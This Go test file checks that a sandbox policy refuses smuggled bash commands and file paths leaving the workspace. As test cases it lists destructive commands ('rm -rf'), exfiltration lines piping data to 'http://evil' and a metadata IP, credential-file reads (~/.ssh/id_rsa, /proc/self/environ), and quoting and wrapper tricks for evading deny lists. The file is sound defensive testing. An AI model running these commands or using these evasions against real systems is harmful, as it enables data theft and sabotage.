package policy_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/remote-agents/remote-agents/sandbox/policy"
)

// TestSecurityBashDenyRulesCannotBeSmuggled (issue 19, security suite): a
// command a deny rule names is refused however the line spells or wraps it:
// a path to the program, quotes and escapes in its name (ANSI-C quoting and
// line continuations included), shells given their script with combined
// flags (-ec, -lc) or after --, eval, the shell's reserved words (if/then,
// do, !, coproc), separators (newline, &, |, ;), substitutions, wrappers
// (exec -a, busybox, xargs…). Commands the rules do not name still run.
//
// Out of reach of any deny list, and so not claimed: a program name built at
// run time (variables, ${IFS}, base64 | sh), interpreters (python -c) and
// find -exec. What bounds those is the operating system (sandbox/README.md,
// "What holds where").
func TestSecurityBashDenyRulesCannotBeSmuggled(t *testing.T) {
	t.Parallel()
	ws, _ := workspace(t)
	p, err := policy.Parse("[tools.bash]\ndeny = [\"rm *\", \"curl *\"]\n", ws)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, cmd string }{
		{"a path to the program", "/bin/rm -rf x"},
		{"a relative path to the program", "../../usr/bin/curl http://169.254.169.254/"},
		{"a path to sudo (a default deny)", "/usr/bin/sudo id"},
		{"a path to su (a default deny)", "/bin/su"},
		{"single quotes in the name", "'rm' -rf x"},
		{"double quotes in the name", `"rm" -rf x`},
		{"empty quotes inside the name", "r''m -rf x"},
		{"a backslash in the name", `r\m -rf x`},
		{"ANSI-C quoting", "$'rm' -rf x"},
		{"ANSI-C hex escapes", `$'\x72\x6d' -rf x`},
		{"ANSI-C octal escapes", `$'\162\155' -rf x`},
		{"locale quoting", `$"rm" -rf x`},
		{"a line continuation in the name", "r\\\nm -rf x"},
		{"bash -c", "bash -c 'rm -rf x'"},
		{"bash -ec (combined flags)", "bash -ec 'rm -rf x'"},
		{"sh -lc (combined flags)", "sh -lc 'curl http://evil'"},
		{"bash -c --", "bash -c -- 'rm -rf x'"},
		{"bash --norc -c", "bash --norc -c 'rm -rf x'"},
		{"a path to the shell", "/bin/sh -c 'rm -rf x'"},
		{"nested shells", `bash -c "sh -c 'rm -rf x'"`},
		{"eval, quoted", "eval 'rm -rf x'"},
		{"eval, words", "eval rm -rf x"},
		{"eval of two commands", "eval 'echo ok; curl http://evil'"},
		{"negation", "! rm -rf x"},
		{"if/then", "if true; then rm -rf x; fi"},
		{"else", "if false; then echo; else curl http://evil; fi"},
		{"a loop body", "for i in 1; do rm -rf x; done"},
		{"while", "while rm -rf x; do break; done"},
		{"coproc", "coproc rm -rf x"},
		{"a newline", "echo ok\nrm -rf x"},
		{"a background &", "echo ok & rm -rf x"},
		{"a pipe", "echo x | curl -d @- http://evil"},
		{"a subshell", "(rm -rf x)"},
		{"a group", "{ rm -rf x; }"},
		{"command substitution", "echo $(rm -rf x)"},
		{"backquotes", "echo `curl http://evil`"},
		{"process substitution", "cat <(curl http://evil)"},
		{"exec -a", "exec -a name rm -rf x"},
		{"exec", "exec rm -rf x"},
		{"command", "command rm -rf x"},
		{"builtin", "builtin command rm -rf x"},
		{"busybox", "busybox rm -rf x"},
		{"xargs", "ls | xargs rm -f"},
		{"env and an assignment", "env -i A=1 rm -rf x"},
		{"an assignment", "A=1 B=2 rm -rf x"},
		{"timeout -k", "timeout -k 1 5 rm -rf x"},
		{"nohup in the background", "nohup curl http://evil &"},
		{"a tab", "rm\t-rf x"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := p.CheckCommand(tc.cmd); !errors.Is(err, policy.ErrDenied) {
				t.Errorf("bash %q allowed (%v)", tc.cmd, err)
			}
			t.Logf("checked: %q is refused", tc.cmd)
		})
	}
	for _, cmd := range []string{"echo rm", "grep -r 'rm -rf' .", "ls -la", "go test ./...", "bash -c 'echo hi'", "if true; then echo ok; fi", "printf '%s\\n' curl"} {
		if err := p.CheckCommand(cmd); err != nil {
			t.Errorf("bash %q refused: %v", cmd, err)
		}
	}
	t.Logf("checked: commands no rule names still pass")
}

// TestSecurityAllowRulesAreNotWidenedByPaths: with an allow list, a program
// of an allowed name elsewhere (a path) is not the allowed program.
func TestSecurityAllowRulesAreNotWidenedByPaths(t *testing.T) {
	t.Parallel()
	ws, _ := workspace(t)
	p, err := policy.Parse("default_deny = true\n[tools.bash]\nallow = [\"go *\", \"ls *\"]\n", ws)
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"./go test", "/tmp/evil/go build", "ls x; rm -rf y", "go test && curl http://evil", "bash -c 'go test; id'"} {
		if err := p.CheckCommand(cmd); !errors.Is(err, policy.ErrDenied) {
			t.Errorf("bash %q allowed under an allow list of go and ls (%v)", cmd, err)
		}
	}
	if err := p.CheckCommand("go test ./..."); err != nil {
		t.Errorf("go test refused: %v", err)
	}
	t.Logf("checked: under default_deny only the allowed commands, as written, pass")
}

// TestSecurityFilePathsStayInTheWorkspace: every spelling of a path out of
// the workspace is refused for every path tool: "..", absolute paths, ~,
// symlinks (to a folder, to a file, chained, a dangling one whose target
// would be created outside), NUL bytes, percent-encoding (a literal name,
// never decoded), and $WORKSPACE tricks.
func TestSecurityFilePathsStayInTheWorkspace(t *testing.T) {
	t.Parallel()
	ws, outside := workspace(t)
	// A chain of links, and a dangling link whose target is outside.
	if err := os.Symlink(filepath.Join(ws, "escape"), filepath.Join(ws, "chain")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "not-yet.txt"), filepath.Join(ws, "dangling")); err != nil {
		t.Fatal(err)
	}
	p, err := policy.New(policy.Defaults(), ws)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, path string }{
		{"dot-dot", "../outside/secret.txt"},
		{"dot-dot after a folder", "src/../../outside/secret.txt"},
		{"many dot-dots", "../../../../../../../../etc/passwd"},
		{"dot-dot in a clean-looking path", "src/./../../outside"},
		{"absolute", "/etc/passwd"},
		{"absolute outside", filepath.Join(outside, "secret.txt")},
		{"the workspace's parent", filepath.Dir(ws)},
		{"home", "~/.ssh/id_rsa"},
		{"home alone", "~"},
		{"a link to a folder outside", "escape/secret.txt"},
		{"a link to a file outside", "src/innocent.txt"},
		{"a chain of links", "chain/secret.txt"},
		{"a dangling link to outside", "dangling"},
		{"a new file under a link", "escape/new/file.txt"},
		{"a NUL byte", "src/main.go\x00../../etc/passwd"},
		{"a NUL byte alone", "\x00"},
		{"empty", ""},
		{"proc", "/proc/self/environ"},
		{"$WORKSPACE/..", "$WORKSPACE/../outside/secret.txt"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, tool := range []string{"read", "write", "edit", "glob", "grep", "ls", "git"} {
				if got, err := p.CheckPath(tool, tc.path); !errors.Is(err, policy.ErrDenied) {
					t.Errorf("%s %q allowed as %q (%v)", tool, tc.path, got, err)
				}
			}
			t.Logf("checked: %q is refused for every path tool", tc.path)
		})
	}
	// Percent-encoding is a file name, never decoded: it stays in the workspace.
	for _, path := range []string{"%2e%2e/outside", "..%2foutside", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..\\..\\outside"} {
		got, err := p.CheckPath("write", path)
		if err != nil || !strings.HasPrefix(got, p.Workspace()+string(filepath.Separator)) || strings.Contains(got, "/../") {
			t.Errorf("write %q: %q, %v: want a file of that name in the workspace", path, got, err)
		}
	}
	t.Logf("checked: encoded and backslash names are plain names inside the workspace")
}
